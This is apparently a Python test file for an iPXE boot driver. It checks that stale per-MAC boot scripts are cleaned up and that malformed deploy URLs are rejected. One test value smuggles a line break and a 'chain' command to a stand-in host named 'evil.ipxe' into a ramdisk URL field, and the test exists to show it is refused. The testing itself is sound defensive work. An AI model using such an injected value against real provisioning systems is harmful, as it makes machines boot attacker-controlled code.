"""Boot interface ipxe: the per-MAC scripts a node wrote go with the node's boot files.

A port deleted, or its MAC corrected, while the node was deploying (the
usual fix when a machine never boots the ramdisk: the MAC was wrong) left
the old MAC's script behind: whatever machine has that MAC network-booted
this node's deploy ramdisk from then on.
"""

import os
import types

import pytest

from hwdrivers.drivers import base
from hwdrivers.drivers.modules import ipxe

UUID_A = "4b4e1f51-7d42-4a0e-9b59-0c5a3f4b6a11"
UUID_B = "9c1d2e3f-0000-4a0e-9b59-0c5a3f4b6a22"
OLD, NEW = "52:54:00:12:34:56", "52:54:00:ab:cd:ef"


class _Management(base.ManagementInterface):
    def get_supported_boot_devices(self, task):
        return ["pxe", "disk"]

    def set_boot_device(self, task, device, persistent=False):
        pass

    def get_boot_device(self, task):
        return {"boot_device": None, "persistent": None}


def _task(uuid, *macs):
    node = types.SimpleNamespace(
        uuid=uuid, ident=uuid, name=None, instance_info={}, driver_internal_info={},
        driver_info={"deploy_kernel": "http://images/k", "deploy_ramdisk": "http://images/r"})
    return types.SimpleNamespace(
        node=node, ports=[{"address": m} for m in macs],
        logger=types.SimpleNamespace(info=lambda *a: None, warning=lambda *a: None),
        driver=types.SimpleNamespace(management=_Management(), boot=ipxe.IPXEBoot()))


@pytest.fixture
def root(config, tmp_path):
    config(deploy__http_root=str(tmp_path / "httpboot"),
           deploy__http_url="http://10.0.0.1:8080/boot",
           deploy__api_url="http://10.0.0.1:6385")
    return tmp_path / "httpboot"


def _scripts(root):
    return sorted(os.listdir(root / "pxelinux.cfg"))


@pytest.mark.parametrize("cleanup", ["clean_up_ramdisk", "prepare_instance",
                                     "clean_up_instance"])
def test_a_mac_corrected_mid_deploy_leaves_no_script_behind(root, cleanup):
    boot = ipxe.IPXEBoot()
    task = _task(UUID_A, OLD)
    boot.prepare_ramdisk(task, {})
    assert _scripts(root) == ["52-54-00-12-34-56"]
    task.ports = [{"address": NEW}]  # PATCH /v1/ports/<port> replace /address
    getattr(boot, cleanup)(task)
    assert _scripts(root) == []


def test_a_deleted_port_leaves_no_script_behind(root):
    boot = ipxe.IPXEBoot()
    task = _task(UUID_A, OLD, NEW)
    boot.prepare_ramdisk(task, {})
    task.ports = [{"address": NEW}]
    boot.clean_up_ramdisk(task)
    assert _scripts(root) == []


def test_preparing_again_with_other_ports_removes_the_old_scripts(root):
    """Inspection, a MAC fixed, then a deploy: one script, for the right MAC."""
    boot = ipxe.IPXEBoot()
    task = _task(UUID_A, OLD)
    boot.prepare_ramdisk(task, {})
    task.ports = [{"address": NEW.upper()}]
    boot.prepare_ramdisk(task, {})
    assert _scripts(root) == ["52-54-00-ab-cd-ef"]


def test_a_mac_now_another_nodes_keeps_that_nodes_script(root):
    boot = ipxe.IPXEBoot()
    task_a = _task(UUID_A, OLD)
    boot.prepare_ramdisk(task_a, {})
    task_a.ports = [{"address": NEW}]
    task_b = _task(UUID_B, OLD)  # the MAC was node B's all along
    boot.prepare_ramdisk(task_b, {})
    boot.clean_up_ramdisk(task_a)
    assert _scripts(root) == ["52-54-00-12-34-56"]
    assert UUID_B in (root / "pxelinux.cfg" / "52-54-00-12-34-56").read_text()
    boot.clean_up_ramdisk(task_b)
    assert _scripts(root) == []


@pytest.mark.parametrize("field, value", [
    ("deploy_kernel", "http://images/deploy kernel"),
    ("deploy_ramdisk", "http://images/r\nchain http://192.0.2.66/evil.ipxe"),
    ("deploy_ramdisk", "http://images/r\t"),
])
def test_a_deploy_file_with_a_space_or_line_break_is_refused_naming_the_field(
        root, field, value):
    """In the script a space ended the URL and a line break started a command."""
    from hwdrivers.common import exception

    task = _task(UUID_A, OLD)
    task.node.driver_info[field] = value
    with pytest.raises(exception.InvalidParameterValue) as caught:
        ipxe.IPXEBoot().validate(task)
    assert field in str(caught.value)
    assert "percent-encode" in str(caught.value)
